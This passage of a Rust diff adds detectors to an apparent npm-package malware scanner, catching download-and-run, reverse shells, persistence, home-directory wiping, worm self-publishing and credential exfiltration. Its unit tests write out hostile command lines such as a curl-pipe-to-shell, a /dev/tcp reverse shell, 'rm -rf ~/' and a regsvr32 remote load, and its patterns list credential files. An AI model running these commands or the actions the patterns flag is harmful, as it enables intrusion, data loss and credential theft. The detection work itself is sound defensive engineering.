+                }) || !c.code.text.contains(&body[..body.len().min(24)]);
+                if ct.dangerous {
+                    let t = if computed {
+                        Technique::EncodedPayloadExec
+                    } else {
+                        Technique::DownloadExec
+                    };
+                    if t == Technique::DownloadExec && !ct.shell {
+                        continue;
+                    }
+                    out.push(self.detection(
+                        Technique::EncodedPayloadExec,
+                        format!(
+                            "{} decodes code and runs it with `{}`",
+                            self.where_(),
+                            c.callee
+                        ),
+                        vec![Step::from_call(
+                            c,
+                            format!("runs decoded code `{}` with `{}`", cut(body, 100), c.callee),
+                        )],
+                        true,
+                    ));
+                    return;
+                }
+                continue;
+            }
+            if self.bundle && !self.install_time {
+                continue;
+            }
+            // A computed body: decoded in the same file, or fetched.
+            let runs_now = self.install_time || c.top_level;
+            let stego = file
+                .strings
+                .iter()
+                .find(|s| s.len >= 64 && s.value.chars().all(|ch| ch == ' ' || ch == '\t'));
+            let decode = self
+                .decode_calls
+                .iter()
+                .find(|d| d.top_level || !c.top_level);
+            if let Some(d) = decode
+                .copied()
+                .filter(|_| runs_now)
+                .or_else(|| stego.and(self.decode_calls.first().copied()))
+            {
+                let mut steps = Vec::new();
+                if let Some(s) = stego {
+                    steps.push(Step::from_string(s, "hides a payload in whitespace"));
+                }
+                steps.push(Step::from_call(
+                    d,
+                    format!("decodes data with `{}`", d.callee),
+                ));
+                steps.push(Step::from_call(
+                    c,
+                    format!("runs the result with `{}`", c.callee),
+                ));
+                out.push(self.detection(
+                    Technique::EncodedPayloadExec,
+                    format!(
+                        "{} decodes a payload and runs it with `{}`",
+                        self.where_(),
+                        c.callee
+                    ),
+                    steps,
+                    true,
+                ));
+                return;
+            }
+            if let Some(n) = self.net.first() {
+                let endpoint = file.strings.iter().find(|s| {
+                    endpoints::classify(&s.value).iter().any(|e| {
+                        matches!(
+                            e.category,
+                            EndpointCategory::PasteSite
+                                | EndpointCategory::RawIp
+                                | EndpointCategory::FileShare
+                                | EndpointCategory::Tunnel
+                        )
+                    })
+                });
+                let mut steps = Vec::new();
+                if let Some(e) = endpoint {
+                    steps.push(Step::from_string(
+                        e,
+                        format!("names `{}`", cut(&e.value, 80)),
+                    ));
+                }
+                steps.push(Step::from_use(n, format!("downloads with `{}`", n.api)));
+                steps.push(Step::from_call(
+                    c,
+                    format!("runs downloaded code with `{}`", c.callee),
+                ));
+                out.push(self.detection(
+                    Technique::DownloadExec,
+                    format!(
+                        "{} downloads code and runs it with `{}`",
+                        self.where_(),
+                        c.callee
+                    ),
+                    steps,
+                    self.install_time || endpoint.is_some(),
+                ));
+                return;
+            }
+            // A paste-site URL and a constructed function, the fetch hidden behind globals.
+            if let Some(e) = file.strings.iter().find(|s| {
+                endpoints::classify(&s.value)
+                    .iter()
+                    .any(|e| e.category == EndpointCategory::PasteSite && e.specific)
+            }) {
+                out.push(self.detection(
+                    Technique::DownloadExec,
+                    format!(
+                        "{} loads code from a paste site and runs it with `{}`",
+                        self.where_(),
+                        c.callee
+                    ),
+                    vec![
+                        Step::from_string(e, format!("names `{}`", cut(&e.value, 80))),
+                        Step::from_call(c, format!("runs code with `{}`", c.callee)),
+                    ],
+                    true,
+                ));
+                return;
+            }
+        }
+        // Decoded code that is dangerous, whatever runs it (`new module.constructor()._compile`).
+        for s in &file.strings {
+            if !s.folded || s.len < 24 {
+                continue;
+            }
+            let ct = code_text(&s.value);
+            if ct.dangerous
+                && (!self.dyn_calls.is_empty() || !self.decode_calls.is_empty())
+                && !self.bundle
+            {
+                out.push(self.detection(
+                    Technique::EncodedPayloadExec,
+                    format!(
+                        "{} decodes hidden code that {}",
+                        self.where_(),
+                        if ct.shell {
+                            "runs commands"
+                        } else {
+                            "sends data over the network"
+                        }
+                    ),
+                    vec![Step::from_string(
+                        s,
+                        format!("decodes code `{}`", cut(&s.value, 100)),
+                    )],
+                    true,
+                ));
+                return;
+            }
+        }
+    }
+
+    /// Network download, file made executable or written, then a process started.
+    fn download_write_run(&self, out: &mut Vec<Detection>) {
+        if self.net.is_empty() || self.shell.is_empty() {
+            return;
+        }
+        let chmod = self
+            .file
+            .uses
+            .iter()
+            .find(|u| u.api.ends_with("chmodSync") || u.api.ends_with("chmod"));
+        let write = self.fs_write.first().copied().or(chmod);
+        let Some(write) = write else { return };
+        let endpoint = self.file.strings.iter().find(|s| {
+            endpoints::classify(&s.value).iter().any(|e| {
+                e.is_url
+                    && matches!(
+                        e.category,
+                        EndpointCategory::RawIp
+                            | EndpointCategory::PasteSite
+                            | EndpointCategory::FileShare
+                            | EndpointCategory::Tunnel
+                    )
+            })
+        });
+        let mut steps = Vec::new();
+        if let Some(e) = endpoint {
+            steps.push(Step::from_string(
+                e,
+                format!("names `{}`", cut(&e.value, 80)),
+            ));
+        }
+        steps.push(Step::from_use(
+            self.net[0],
+            format!("downloads with `{}`", self.net[0].api),
+        ));
+        steps.push(Step::from_use(
+            write,
+            format!("writes it with `{}`", write.api),
+        ));
+        steps.push(Step::from_use(
+            self.shell[0],
+            format!("starts a process with `{}`", self.shell[0].api),
+        ));
+        out.push(self.detection(
+            Technique::DownloadExec,
+            format!(
+                "{} downloads a file, writes it and starts a process",
+                self.where_()
+            ),
+            steps,
+            endpoint.is_some() && (self.install_time || self.net_top),
+        ));
+    }
+
+    fn reverse_shell(&self, out: &mut Vec<Detection>) {
+        let socket = self.net.iter().find(|u| {
+            matches!(
+                u.api.as_str(),
+                "net.Socket" | "net.connect" | "net.createConnection" | "tls.connect"
+            )
+        });
+        let Some(socket) = socket else { return };
+        let shell = self.shell_calls.iter().find(|c| {
+            c.args.first().and_then(Option::as_deref).is_some_and(|a| {
+                let name = a
+                    .rsplit(['/', '\\'])
+                    .next()
+                    .unwrap_or(a)
+                    .to_ascii_lowercase();
+                matches!(
+                    name.as_str(),
+                    "sh" | "bash"
+                        | "zsh"
+                        | "cmd.exe"
+                        | "cmd"
+                        | "powershell.exe"
+                        | "powershell"
+                        | "pwsh"
+                )
+            })
+        });
+        let Some(shell) = shell else { return };
+        out.push(self.detection(
+            Technique::ReverseShell,
+            format!(
+                "{} spawns a shell and connects it to a socket",
+                self.where_()
+            ),
+            vec![
+                Step::from_call(
+                    shell,
+                    format!("spawns `{}`", shell.args[0].as_deref().unwrap_or("a shell")),
+                ),
+                Step::from_use(socket, format!("opens a socket with `{}`", socket.api)),
+            ],
+            true,
+        ));
+    }
+
+    fn persistence(&self, out: &mut Vec<Detection>) {
+        if self.fs_write.is_empty() {
+            return;
+        }
+        const TARGETS: [(&str, &str); 12] = [
+            (".bashrc", "shell startup file"),
+            (".zshrc", "shell startup file"),
+            (".bash_profile", "shell startup file"),
+            (".profile", "shell startup file"),
+            ("launchagents", "launchd agent"),
+            ("launchdaemons", "launchd agent"),
+            ("systemd", "systemd unit"),
+            ("/etc/cron", "cron job"),
+            ("currentversion\\run", "Windows Run key"),
+            ("start menu", "Startup folder"),
+            ("autostart", "XDG autostart entry"),
+            ("/etc/rc.local", "boot script"),
+        ];
+        let mut target = None;
+        for s in &self.file.strings {
+            if s.len > 200 {
+                continue;
+            }
+            let l = s.value.to_ascii_lowercase();
+            if let Some((_, what)) = TARGETS.iter().find(|(n, _)| {
+                if n.starts_with('.') {
+                    l == *n || l.ends_with(&format!("/{n}"))
+                } else {
+                    l.contains(n)
+                }
+            }) {
+                target = Some((s, *what));
+                break;
+            }
+        }
+        let Some((target, what)) = target else { return };
+        let write = self.fs_write[0];
+        // What is written: a download-and-run line or code that calls home.
+        let payload = self.file.calls.iter().find_map(|c| {
+            let m = c.callee.rsplit('.').next().unwrap_or("");
+            if !(m.contains("write") || m.contains("append")) {
+                return None;
+            }
+            c.args
+                .iter()
+                .flatten()
+                .find(|a| command_has_download(a) || code_text(a).network)
+                .map(|a| (c, a))
+        });
+        let mut steps = vec![Step::from_string(target, format!("names a {what}"))];
+        steps.push(Step::from_use(
+            write,
+            format!("writes with `{}`", write.api),
+        ));
+        if let Some((c, a)) = payload {
+            steps.push(Step::from_call(
+                c,
+                format!("installs `{}`", cut(a.trim(), 80)),
+            ));
+        }
+        out.push(self.detection(
+            Technique::Persistence,
+            format!(
+                "{} writes a {what} so code runs on every login or boot",
+                self.where_()
+            ),
+            steps,
+            self.install_time
+                && (payload.is_some() || !self.shell.is_empty() || !self.net.is_empty()),
+        ));
+    }
+
+    fn destructive(&self, out: &mut Vec<Detection>) {
+        let file = self.file;
+        let homedir = file.uses.iter().find(|u| {
+            u.api == "os.homedir" || matches!(u.detail.as_deref(), Some("HOME" | "USERPROFILE"))
+        });
+        let Some(home) = homedir else { return };
+        let walk = file
+            .uses
+            .iter()
+            .find(|u| u.api.ends_with("readdirSync") || u.api.ends_with("readdir"));
+        let Some(walk) = walk else { return };
+        let wipe = file.uses.iter().find(|u| {
+            let m = u.api.rsplit('.').next().unwrap_or("");
+            matches!(
+                m,
+                "rmSync" | "rm" | "rmdirSync" | "rmdir" | "unlinkSync" | "unlink"
+            ) || (m.starts_with("writeFile") && u.kind == UseKind::Call)
+        });
+        let Some(wipe) = wipe else { return };
+        // Overwriting needs a constant content; deleting is enough.
+        let gate = file
+            .strings
+            .iter()
+            .find(|s| {
+                s.value.starts_with("Europe/")
+                    || s.value.starts_with("Asia/")
+                    || matches!(
+                        s.value.to_ascii_lowercase().as_str(),
+                        "ru" | "by" | "russia" | "belarus" | "ru-ru"
+                    )
+            })
+            .or_else(|| {
+                file.strings.iter().find(|s| {
+                    s.value.contains("countryCode")
+                        || s.value.contains("country_name")
+                        || s.value.contains("ipgeo")
+                })
+            });
+        let top = file
+            .calls
+            .iter()
+            .any(|c| c.top_level && c.location.line == wipe.location.line);
+        let mut steps = vec![
+            Step::from_use(home, "locates the home directory"),
+            Step::from_use(walk, format!("walks it with `{}`", walk.api)),
+            Step::from_use(
+                wipe,
+                format!("deletes or overwrites files with `{}`", wipe.api),
+            ),
+        ];
+        if let Some(g) = gate {
+            steps.insert(
+                0,
+                Step::from_string(g, format!("targets `{}`", cut(&g.value, 40))),
+            );
+        }
+        out.push(self.detection(
+            Technique::DestructiveCode,
+            format!(
+                "{} walks the home directory and deletes or overwrites files",
+                self.where_()
+            ),
+            steps,
+            !self.bundle && (self.install_time || top || gate.is_some()),
+        ));
+    }
+
+    fn self_propagation(&self, out: &mut Vec<Detection>) {
+        let publish = self.file.strings.iter().find(|s| {
+            let l = s.value.to_ascii_lowercase();
+            s.len < 400 && (l.contains("npm publish") || (l == "publish" && !self.shell.is_empty()))
+        });
+        let registry_put = self.file.strings.iter().find(|s| {
+            s.value.contains("/-/whoami") || s.value.contains("/-/v1/search?text=maintainer:")
+        });
+        let enumerate = self.file.strings.iter().find(|s| {
+            s.value.contains("maintainer:")
+                || s.value.contains("npm whoami")
+                || s.value.contains("/-/whoami")
+                || s.value.starts_with("npm pack ")
+        });
+        let writes_manifest = !self.fs_write.is_empty()
+            && self
+                .file
+                .strings
+                .iter()
+                .any(|s| s.value.ends_with("package.json"));
+        let Some(first) = publish.or(registry_put.filter(|_| !self.net.is_empty())) else {
+            return;
+        };
+        if (publish.is_some() && self.shell.is_empty())
+            || !(self.install_time || enumerate.is_some())
+        {
+            // Release tools publish when their user asks; a worm publishes from install-time
+            // code or after listing the victim's packages.
+            return;
+        }
+        let mut steps = Vec::new();
+        if let Some(e) = enumerate.filter(|e| e.location != first.location) {
+            steps.push(Step::from_string(
+                e,
+                format!(
+                    "looks up the maintainer's packages (`{}`)",
+                    cut(&e.value, 60)
+                ),
+            ));
+        }
+        if writes_manifest && let Some(w) = self.fs_write.first() {
+            steps.push(Step::from_use(w, "rewrites a package.json"));
+        }
+        steps.push(Step::from_string(
+            first,
+            format!("publishes (`{}`)", cut(&first.value, 60)),
+        ));
+        out.push(self.detection(
+            Technique::SelfPropagation,
+            format!(
+                "{} publishes packages with the victim's npm credentials",
+                self.where_()
+            ),
+            steps,
+            self.install_time || enumerate.is_some(),
+        ));
+    }
+
+    /// Obfuscated, bidi-reordered, invisible or whitespace-hidden code that reaches a dangerous
+    /// capability on load or at install.
+    fn hidden_payload(&self, out: &mut Vec<Detection>) {
+        let file = self.file;
+        if self.bundle && !self.install_time {
+            return;
+        }
+        let dangerous = file.uses.iter().find(|u| {
+            matches!(
+                u.capability,
+                Capability::Shell | Capability::DynamicCode | Capability::Network
+            ) && u.kind != UseKind::Reference
+        });
+        let Some(danger) = dangerous else { return };
+        let sig = &file.signals;
+        let hidden: Option<(Location, Excerpt, String)> = if let Some(o) = is_obfuscated(file) {
+            let top = file.calls.iter().any(|c| c.top_level) || self.install_time;
+            top.then(|| {
+                (
+                    o.location.clone(),
+                    excerpt_at(&o.location, "obfuscated code"),
+                    format!("obfuscated ({})", o.signature.describe()),
+                )
+            })
+        } else if let Some(b) = sig.bidi.iter().find(|b| b.context != TextContext::String) {
+            Some((
+                b.location.clone(),
+                b.code.clone(),
+                "bidi control characters reorder the code".to_string(),
+            ))
+        } else if let Some(i) = sig
+            .invisible
+            .iter()
+            .find(|i| i.context == TextContext::Code)
+        {
+            Some((
+                i.location.clone(),
+                i.code.clone(),
+                "invisible characters in identifiers".to_string(),
+            ))
+        } else {
+            sig.hidden_code.first().map(|h| {
+                (
+                    h.location.clone(),
+                    h.code.clone(),
+                    "code pushed off-screen by whitespace".to_string(),
+                )
+            })
+        };
+        let Some((loc, code, what)) = hidden else {
+            return;
+        };
+        out.push(self.detection(
+            Technique::HiddenPayload,
+            format!("{} hides code that reaches `{}`", self.where_(), danger.api),
+            vec![
+                Step {
+                    location: loc,
+                    code,
+                    label: what,
+                },
+                Step::from_use(danger, format!("uses `{}`", danger.api)),
+            ],
+            true,
+        ));
+    }
+}
+
+/// Install-time sources and sinks split across files (a collector module required by the
+/// install script).
+fn cross_file_exfiltration(pkg: &PackageFacts, out: &mut Vec<Detection>) {
+    if out
+        .iter()
+        .any(|d| d.technique == Technique::Exfiltration && d.install_time)
+    {
+        return;
+    }
+    let files: Vec<&FileFacts> = pkg
+        .files
+        .iter()
+        .filter(|f| f.install_time && f.is_code())
+        .collect();
+    if files.len() < 2 {
+        return;
+    }
+    let source = files.iter().find_map(|f| {
+        f.uses.iter().find(|u| {
+            (u.capability == Capability::Env && u.detail.as_deref() == Some("*"))
+                || (u.capability == Capability::SystemInfo
+                    && (u.api.ends_with("hostname") || u.api.ends_with("userInfo")))
+        })
+    });
+    let sink = files.iter().find_map(|f| {
+        f.uses.iter().find(|u| {
+            u.capability == Capability::Network
+                && matches!(u.kind, UseKind::Call | UseKind::Construct)
+        })
+    });
+    if let (Some(s), Some(k)) = (source, sink)
+        && s.location.path != k.location.path
+    {
+        out.push(Detection {
+            technique: Technique::Exfiltration,
+            path: s.location.path.clone(),
+            summary: format!(
+                "install-time code collects `{}` in `{}` and sends it from `{}`",
+                s.api, s.location.path, k.location.path
+            ),
+            steps: vec![
+                Step::from_use(s, format!("collects `{}`", s.api)),
+                Step::from_use(k, format!("sends over the network with `{}`", k.api)),
+            ],
+            install_time: true,
+            malicious: true,
+        });
+    }
+}
+
+fn cut(s: &str, n: usize) -> String {
+    let mut out: String = s.chars().take(n).collect();
+    if out.len() < s.len() {
+        out.push('…');
+    }
+    out.replace('\n', "\\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn command_lines() {
+        let t = |s: &str| {
+            command_techniques(s)
+                .into_iter()
+                .map(|(t, _)| t)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            t("curl -fsSL http://198.51.100.23/i.sh | sh"),
+            [Technique::DownloadExec]
+        );
+        assert_eq!(
+            t("wget -qO- https://x.example/a|sudo bash"),
+            [Technique::DownloadExec]
+        );
+        assert!(t("curl -o out.tgz https://registry.npmjs.org/x.tgz").is_empty());
+        assert!(t("node-gyp rebuild").is_empty());
+        assert_eq!(
+            t("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
+            [Technique::ReverseShell]
+        );
+        assert_eq!(t("rm -rf ~/"), [Technique::DestructiveCode]);
+        assert!(t("rm -rf /tmp/build").is_empty());
+        assert_eq!(
+            t("regsvr32 /s /n /u /i:http://198.51.100.5/file.sct scrobj.dll"),
+            [Technique::DownloadExec]
+        );
+        assert_eq!(t("gh auth token"), [Technique::CredentialAccess]);
+        assert_eq!(
+            t("npm publish --access public"),
+            [Technique::SelfPropagation]
+        );
+    }
+
+    #[test]
+    fn credential_paths_and_env_names() {
+        assert_eq!(
+            credential_store("/home/u/.npmrc"),
+            Some("npm token (.npmrc)")
+        );
+        assert_eq!(credential_store(".ssh"), Some("SSH keys"));
+        assert_eq!(
+            credential_store(".aws/credentials"),
+            Some("AWS credentials")
+        );
+        assert_eq!(
+            credential_store("Default/Login Data"),
+            Some("browser saved passwords")
+        );
+        assert_eq!(credential_store("npmrc"), None);
+        assert_eq!(credential_store("lib/config.js"), None);
+        assert!(is_secret_env("NPM_TOKEN") && is_secret_env("AWS_SECRET_ACCESS_KEY"));
+        assert!(!is_secret_env("HTTP_PROXY") && !is_secret_env("npm_config_registry"));
+        assert!(!is_secret_env("CI") && !is_secret_env("DEBUG"));
+    }
+}
+
+#[cfg(test)]
+mod dump {
+    #[test]
+    #[ignore = "debug helper: dumps facts of $FERRET_DUMP"]
+    fn dump_facts() {
+        let dir = std::env::var("FERRET_DUMP").unwrap();
+        let tree = ferret_source::open_dir(
+            std::path::Path::new(&dir),
+            &ferret_source::Limits::default(),
+        )
+        .unwrap();
+        let facts = crate::engine::build_facts(&tree, ferret_core::Ecosystem::Npm);
+        for d in super::detect(&facts) {
+            println!(
+                "DETECT {:?} mal={} {} :: {}",
+                d.technique,
+                d.malicious,
+                d.summary,
+                d.chain()
+            );
+        }
+    }
+}
